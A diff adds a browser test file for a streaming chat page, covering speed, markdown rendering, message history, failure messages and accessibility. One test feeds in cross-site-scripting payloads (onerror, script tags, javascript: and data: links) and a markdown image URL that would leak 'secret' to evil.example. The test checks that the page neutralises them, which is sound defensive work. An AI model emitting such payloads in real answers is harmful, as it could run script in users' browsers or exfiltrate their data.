@@ -1,0 +1,452 @@
+// SPDX-License-Identifier: Apache-2.0
+// The chat page in a real browser: what it shows, what it sends, and what it says when something fails.
+import assert from "node:assert/strict";
+import { after, before, beforeEach, test } from "node:test";
+import { beginAnswer, content, failing, startBrowser, startSite, whole } from "./site.mjs";
+
+let site, browser, page, complaints;
+
+before(async () => {
+  [site, browser] = await Promise.all([startSite(), startBrowser()]);
+});
+after(async () => {
+  await browser?.close();
+  site?.close();
+});
+beforeEach(async () => {
+  site.requests.length = 0;
+  await open();
+});
+
+async function open(options = {}) {
+  await page?.context().close();
+  page = await (await browser.newContext(options)).newPage();
+  complaints = [];
+  page.on("pageerror", (error) => complaints.push(String(error)));
+  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
+  await page.goto(site.origin);
+}
+
+async function ask(question = "Hello") {
+  await page.fill("#prompt", question);
+  await page.keyboard.press("Enter");
+}
+
+const lastText = () => page.locator("article.assistant .text").last();
+const note = () => page.locator("article:last-of-type .note");
+const alarm = () => page.locator("article:last-of-type .alarm");
+
+async function askAndAwait(question) {
+  await ask(question);
+  await note().waitFor();
+}
+
+// Seconds of CPU that the page's main thread has used since the last call.
+async function mainThreadMeter() {
+  const session = await page.context().newCDPSession(page);
+  await session.send("Performance.setTimeDomain", { timeDomain: "threadTicks" });
+  await session.send("Performance.enable");
+  let before = 0;
+  return async () => {
+    const { metrics } = await session.send("Performance.getMetrics");
+    const now = metrics.find(({ name }) => name === "TaskDuration").value;
+    const used = now - before;
+    before = now;
+    return used;
+  };
+}
+
+// --- Long answers ---------------------------------------------------------------------------------------------------
+
+const kinds = { words: "word ", code: "line of code\n", paragraphs: "one\n\ntwo ", list: "- item\n", table: "| a | b |\n" };
+const beginnings = { code: "```\n", table: "| a | b |\n|---|---|\n" };
+
+for (const [kind, piece] of Object.entries(kinds)) {
+  test(`20,000 events of ${kind} take less than three seconds of CPU, in proportion to their number`, async () => {
+    const meter = await mainThreadMeter();
+    const costs = [];
+    for (const events of [5000, 20_000]) {
+      site.answer = async (response) => {
+        beginAnswer(response);
+        response.write(content(beginnings[kind] ?? ""));
+        for (let sent = 0; sent < events; sent += 50) {
+          response.write(content(piece).repeat(50));
+          await new Promise((resolve) => setTimeout(resolve, 2));
+        }
+        response.end("data: [DONE]\n\n");
+      };
+      await open();
+      const cost = await mainThreadMeter();
+      await cost();
+      await askAndAwait();
+      costs.push(await cost());
+    }
+    if (process.env.SHOW_FIGURES) console.log(kind, costs.map((cost) => `${cost.toFixed(2)} s`).join(" and "));
+    assert.ok(costs[1] < 3, `${costs[1]} s`);
+    assert.ok(costs[1] < 8 * costs[0], costs.join(" and "));
+  });
+}
+
+test("Stop acts in the middle of an answer that comes as fast as it can", async () => {
+  let going = true;
+  site.answer = async (response) => {
+    beginAnswer(response);
+    response.on("close", () => (going = false));
+    while (going) {
+      response.write(content("word ").repeat(500));
+      await new Promise((resolve) => setTimeout(resolve, 10));
+    }
+  };
+  await ask();
+  await page.waitForFunction(() => document.querySelector(".assistant .text").textContent.length > 20_000);
+  const ms = await page.evaluate(async () => {
+    const began = performance.now();
+    document.getElementById("send").click();
+    while (!document.querySelector(".note")) await new Promise((resolve) => setTimeout(resolve, 1));
+    return performance.now() - began;
+  });
+  if (process.env.SHOW_FIGURES) console.log(`Stop took ${ms.toFixed(0)} ms`);
+  assert.match(await note().textContent(), /^Stopped\./);
+  while (going) await new Promise((resolve) => setTimeout(resolve, 10)); // the connection is closed
+});
+
+test("a hidden tab shows the answer too", async () => {
+  site.answer = (response) => {
+    beginAnswer(response);
+    response.write(content("while hidden"));
+  };
+  await page.evaluate(() => {
+    Object.defineProperty(document, "hidden", { value: true });
+    window.requestAnimationFrame = () => 0; // as in a hidden tab
+  });
+  await ask();
+  await page.waitForFunction(() => document.querySelector(".assistant .text")?.textContent === "while hidden", null, { polling: 50 });
+});
+
+// --- What a model writes --------------------------------------------------------------------------------------------
+
+test("Markdown, however it is divided", async () => {
+  const source = "# Title\n\nSome **bold**, *slanted* and `code`.\n\n1. one\n2. two\n   - inner\n\n```js\nlet a = 1;\n\nlet b;\n```\n\n" +
+    "| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quoted\n\nLast line.";
+  const shapes = [];
+  for (const pieces of [[source], [...source], source.split(/(?<=\n)/)]) {
+    site.answer = whole(...pieces);
+    await askAndAwait();
+    shapes.push(await lastText().evaluate((text) => text.innerHTML.replaceAll('<div class="part"></div>', "")));
+  }
+  assert.equal(shapes[1], shapes[0]);
+  assert.equal(shapes[2], shapes[0]);
+  for (const part of [
+    '<h3 dir="auto">Title</h3>', "<strong>bold</strong>", "<em>slanted</em>", "<code>code</code>", '<ol><li dir="auto">one</li>',
+    '<ul><li dir="auto">inner</li></ul>', "<code>let a = 1;\n\nlet b;\n</code>", '<td dir="auto" class="align-right">2</td>',
+    '<blockquote><p dir="auto">quoted</p></blockquote>', '<p dir="auto">Last line.</p>',
+  ]) {
+    assert.ok(shapes[0].includes(part), `${part} in ${shapes[0]}`);
+  }
+});
+
+test("an answer copied is the model's own text, and a block of code its code", async () => {
+  await open({ permissions: ["clipboard-read", "clipboard-write"] });
+  const source = "**Run** this:\n\n```sh\nls -l\n```\n\nDone.";
+  site.answer = whole(...source);
+  await askAndAwait();
+  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
+  await page.click(".code .copy");
+  assert.equal(await clipboard(), "ls -l\n");
+  await page.click(".note button");
+  await page.waitForFunction(() => document.querySelector(".note button").textContent === "Copied");
+  assert.equal(await clipboard(), source);
+});
+
+test("what a model writes runs nothing, loads nothing and reaches no dangerous address", async () => {
+  const loaded = [];
+  page.on("request", (request) => loaded.push(request.url()));
+  site.answer = whole(
+    "<img src=x onerror=alert(1)><script>alert(1)</script>\n\n![secret](https://evil.example/?q=secret) " +
+      "[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) <javascript:alert(1)> [d](https://good.example/)\n\n" +
+      "```\"onclick=alert(1)\nx\n```\n\n[e]: javascript:alert(1)\n[e]",
+  );
+  await askAndAwait();
+  assert.deepEqual(await lastText().locator("img, script, iframe, [onclick], [onerror], [style]").count(), 0);
+  const links = await lastText().locator("a").evaluateAll((all) => all.map(({ href, rel }) => [href, rel]));
+  assert.deepEqual(links, [
+    ["https://evil.example/?q=secret", "noopener noreferrer nofollow"],
+    ["https://good.example/", "noopener noreferrer nofollow"],
+  ]);
+  assert.deepEqual(loaded.filter((url) => !url.startsWith(site.origin)), []);
+  assert.deepEqual(complaints, []);
+});
+
+test("hostile depth and length leave the page alive", async () => {
+  for (const text of ["> ".repeat(5000), "- ".repeat(5000), "[".repeat(20_000), "*a ".repeat(20_000), "`".repeat(5000), "| ".repeat(5000) + "\n" + "|-".repeat(5000)]) {
+    site.answer = whole(text, "\n\n", "alive");
+    await askAndAwait();
+    assert.match(await lastText().textContent(), /alive/);
+  }
+  assert.deepEqual(complaints, []);
+});
+
+test("the example's own policy forbids inline scripts and text as HTML, and the page needs neither", async () => {
+  const policy = (await page.reload()).headers()["content-security-policy"];
+  assert.match(policy, /default-src 'none'/);
+  assert.match(policy, /require-trusted-types-for 'script'/);
+  assert.doesNotMatch(policy, /unsafe/);
+  site.answer = whole("fine");
+  await askAndAwait();
+  assert.deepEqual(complaints, []);
+  const thrown = await page.evaluate(() => {
+    try {
+      document.body.innerHTML = "<b>";
+      return null;
+    } catch (error) {
+      return error.name;
+    }
+  });
+  assert.equal(thrown, "TypeError");
+});
+
+// --- What it sends --------------------------------------------------------------------------------------------------
+
+const roles = (request) => request.messages.map(({ role }) => role).join(" ");
+
+test("the history alternates and begins with a question, also after failures and early stops", async () => {
+  site.answer = whole("first");
+  await askAndAwait("one");
+  site.answer = failing(500);
+  await ask("two");
+  await alarm().waitFor();
+  site.answer = beginAnswer;
+  await ask("three");
+  await page.locator("#send.stop").click();
+  await note().waitFor();
+  site.answer = whole("last");
+  await askAndAwait("four");
+  assert.equal(roles(site.requests.at(-1)), "user assistant user");
+  assert.equal(site.requests.at(-1).messages.at(-1).content, "four");
+});
+
+test("a long conversation is sent only as far as the server takes it", async () => {
+  site.answer = whole("x".repeat(90_000));
+  for (const question of ["one", "two", "three", "four"]) await askAndAwait(question);
+  const last = site.requests.at(-1);
+  assert.equal(roles(last), "user assistant user assistant user");
+  assert.ok(JSON.stringify(last).length < 256 * 1024);
+});
+
+test("a double click on Send asks once, and stops nothing", async () => {
+  site.answer = (response) => {
+    beginAnswer(response);
+    response.write(content("going on"));
+  };
+  await page.fill("#prompt", "Hello");
+  await page.dblclick("#send");
+  await page.waitForFunction(() => document.querySelector(".assistant .text")?.textContent === "going on");
+  assert.equal(await page.textContent("#send"), "Stop");
+  assert.equal(site.requests.length, 1);
+});
+
+// --- What it says of a failure --------------------------------------------------------------------------------------
+
+const json = { "Content-Type": "application/json" };
+const login = (response) => failing(200, { "Content-Type": "text/html" }, "<h1>Log in</h1>")(response);
+const cut = (response) => {
+  beginAnswer(response);
+  response.write(content("half"));
+  setTimeout(() => response.destroy(), 20);
+};
+const endless = (response) => {
+  beginAnswer(response);
+  response.end(content("half"));
+};
+const reported = (more) => (response) => {
+  beginAnswer(response);
+  response.end(`data: ${JSON.stringify({ error: "The model said no.", ...more })}\n\n`);
+};
+
+for (const [name, answer, message, button] of [
+  ["a refusal of Apache's own", failing(503, { "Retry-After": "7" }), "The server is busy.", /Try again in [67] s/],
+  ["the daemon's own refusal", failing(429, { ...json, "Retry-After": "3" }, '{"error":"Too many answers."}'), "Too many answers.", /Try again in [23] s/],
+  ["someone who is not logged in", failing(401), "You are not logged in.", /^Log in$/],
+  ["a login page in the answer's place", login, "Your session has ended.", /^Log in$/],
+  ["a message that is too long", failing(413), "Your message is too long: shorten it.", null],
+  ["a connection that is cut", cut, "The connection broke off.", /^Try again$/],
+  ["an answer without an end", endless, "The answer broke off before its end.", /^Try again$/],
+  ["an error that may pass", reported({ code: "upstream_busy", retry_after: 9 }), "The model said no.", /Try again in [89] s/],
+  ["an error that will not pass", reported({ code: "upstream_refused" }), "The model said no.", null],
+  ["an answer that is none", failing(200, { "Content-Type": "text/plain" }, "hm"), "The server sent something that is no answer.", /^Try again$/],
+  ["an event that is none", (response) => { beginAnswer(response); response.end("data: {\n\n"); }, "The server sent something that is no answer.", /^Try again$/],
+]) {
+  test(`${name} is told in words that say what to do`, async () => {
+    site.answer = answer;
+    await ask();
+    await alarm().waitFor();
+    const text = await alarm().evaluate((element) => element.firstChild.data);
+    assert.equal(text, message);
+    if (button === null) assert.equal(await alarm().locator("button").count(), 0);
+    else await alarm().locator("button", { hasText: button }).waitFor();
+  });
+}
+
+test("the countdown ends, Try again asks again, and the focus is in the composer", async () => {
+  await page.clock.install();
+  site.answer = failing(503, { "Retry-After": "30" });
+  await ask();
+  const again = alarm().locator("button");
+  await again.waitFor();
+  assert.ok(await again.isDisabled());
+  await page.clock.runFor(31_000);
+  site.answer = whole("at last");
+  await again.click();
+  await page.clock.runFor(100);
+  await note().waitFor();
+  assert.equal(await lastText().textContent(), "at last");
+  assert.equal(roles(site.requests.at(-1)), "user");
+  assert.equal(await page.evaluate(() => document.activeElement.id), "prompt");
+});
+
+test("a network that falls silent is noticed, and one that pings is not", async () => {
+  await page.evaluate(() => {
+    window.heardBytes = 0;
+    const { read } = ReadableStreamDefaultReader.prototype;
+    ReadableStreamDefaultReader.prototype.read = async function () {
+      const result = await read.call(this);
+      window.heardBytes += result.value?.length ?? 0;
+      return result;
+    };
+  });
+  await page.clock.install();
+  let stream;
+  site.answer = (response) => {
+    stream = response;
+    beginAnswer(response);
+    response.write(content("half"));
+  };
+  await ask();
+  await page.clock.runFor(100);
+  await page.waitForFunction(() => document.querySelector(".assistant .text")?.textContent === "half");
+  for (let pings = 0; pings < 5; ++pings) {
+    const heard = page.evaluate(() => window.heardBytes);
+    stream.write(": ping\n\n");
+    await page.waitForFunction((before) => window.heardBytes > before, await heard, { polling: 20 });
+    await page.clock.runFor(15_000);
+  }
+  assert.equal(await page.locator(".alarm").count(), 0);
+  await page.clock.runFor(60_000);
+  await alarm().waitFor();
+  assert.match(await alarm().textContent(), /fallen silent/);
+});
+
+test("a browser without a network says so", async () => {
+  await page.context().setOffline(true);
+  await ask();
+  await alarm().waitFor();
+  assert.match(await alarm().textContent(), /^You are offline\./);
+});
+
+// --- Keyboard, assistive technology, screens ------------------------------------------------------------------------
+
+test("Escape stops the answer, but not while an input method composes", async () => {
+  site.answer = beginAnswer;
+  await ask();
+  await page.waitForFunction(() => document.querySelector("#send.stop"));
+  await page.evaluate(() => {
+    document.getElementById("prompt").dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", isComposing: true, bubbles: true }));
+  });
+  assert.equal(await page.textContent("#send"), "Stop");
+  await page.keyboard.press("Escape");
+  await note().waitFor();
+  assert.match(await note().textContent(), /^Stopped/);
+});
+
+test("a suggestion leaves the focus in the composer, and the scrolling text can be reached by keyboard", async () => {
+  site.answer = whole("fine");
+  await page.locator("#suggestions button").first().click();
+  await note().waitFor();
+  assert.equal(await page.evaluate(() => document.activeElement.id), "prompt");
+  assert.equal(await page.getAttribute("#scroller", "tabindex"), "0");
+});
+
+test("a screen reader hears whole blocks, and never each piece", async () => {
+  await page.evaluate(() => {
+    window.heard = [];
+    new MutationObserver((changes) => {
+      for (const { addedNodes } of changes) for (const node of addedNodes) window.heard.push(node.textContent);
+    }).observe(document.getElementById("speech"), { childList: true });
+  });
+  site.answer = whole(..."First block.\n\nSecond block.\n\n```js\na\nb\n```\n");
+  await askAndAwait();
+  await page.waitForFunction(() => window.heard.at(-1) === "The answer is complete.");
+  assert.deepEqual(await page.evaluate(() => window.heard), [
+    "The answer is being written.", "First block.", "Second block.", "Code: js, 2 lines.", "The answer is complete.",
+  ]);
+  assert.equal(await page.locator("#log [aria-live], #log [role=log]").count(), 0);
+});
+
+test("text of either direction stands on its own side", async () => {
+  site.answer = whole("שלום\n\nHello");
+  await askAndAwait("مرحبا");
+  const directions = await page.evaluate(() => [...document.querySelectorAll(".user .text, .assistant .text p")].map((text) => getComputedStyle(text).direction));
+  assert.deepEqual(directions, ["rtl", "rtl", "ltr"]);
+});
+
+const seen = (selector) => page.locator(selector).evaluate((element) => {
+  element.scrollIntoView({ block: "center" });
+  const { left, top, width, height } = element.getBoundingClientRect();
+  const hit = document.elementFromPoint(left + width / 2, top + height / 2);
+  return left >= 0 && left + width <= innerWidth && element.contains(hit);
+});
+
+test("at 400 % of a small window, and on a phone, everything can be reached and nothing is wider than the screen", async () => {
+  for (const viewport of [{ width: 320, height: 256 }, { width: 360, height: 640 }]) {
+    await open({ viewport });
+    assert.ok(await seen("#suggestions button >> nth=2"), "suggestions");
+    assert.ok(await seen("#prompt"), "composer");
+    site.answer = whole("A table:\n\n| a | b |\n|---|---|\n| " + "long ".repeat(30) + " | " + "x".repeat(300) + " |\n\n```\n" + "y".repeat(500) + "\n```\n\nEnd.");
+    await askAndAwait();
+    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth && document.getElementById("scroller").scrollWidth <= innerWidth), true);
+    assert.ok(await seen(".note"), "the answer's end");
+    assert.ok(await seen("#send"), "Send");
+  }
+});
+
+test("with forced colours the cursor and the buttons are there", async () => {
+  await open({ forcedColors: "active" });
+  site.answer = (response) => {
+    beginAnswer(response);
+    response.write(content("half"));
+  };
+  await ask();
+  await page.waitForFunction(() => document.querySelector(".assistant .text")?.textContent === "half");
+  const [cursor, border] = await page.evaluate(() => [
+    getComputedStyle(document.querySelector(".assistant p:not(.spoken)"), "::after").content,
+    getComputedStyle(document.getElementById("send")).borderTopWidth,
+  ]);
+  assert.equal(cursor, '"▮"');
+  assert.equal(border, "1px");
+});
+
+test("dark and light have enough contrast", async () => {
+  for (const colorScheme of ["dark", "light"]) {
+    await open({ colorScheme });
+    const [text, ground] = await page.evaluate(() => [getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]);
+    const luminance = (color) => {
+      const [r, g, b] = color.match(/\d+/g).map((part) => part / 255).map((part) => (part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4));
+      return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+    };
+    const [low, high] = [luminance(text), luminance(ground)].sort();
+    assert.ok((high + 0.05) / (low + 0.05) > 7, `${colorScheme}: ${text} on ${ground}`);
+  }
+});
+
+test("the composer grows with its text and covers nothing of the answer", async () => {
+  await open({ viewport: { width: 600, height: 500 } });
+  site.answer = whole("line\n\n".repeat(40));
+  await askAndAwait();
+  await page.fill("#prompt", "line\n".repeat(2500));
+  await page.waitForFunction(() => document.getElementById("prompt").clientHeight > 100);
+  const [end, top] = await page.evaluate(() => [
+    [...document.querySelectorAll(".note")].at(-1).getBoundingClientRect().bottom,
+    document.getElementById("form").getBoundingClientRect().top,
+  ]);
+  assert.ok(end <= top, `${end} ${top}`);
+});
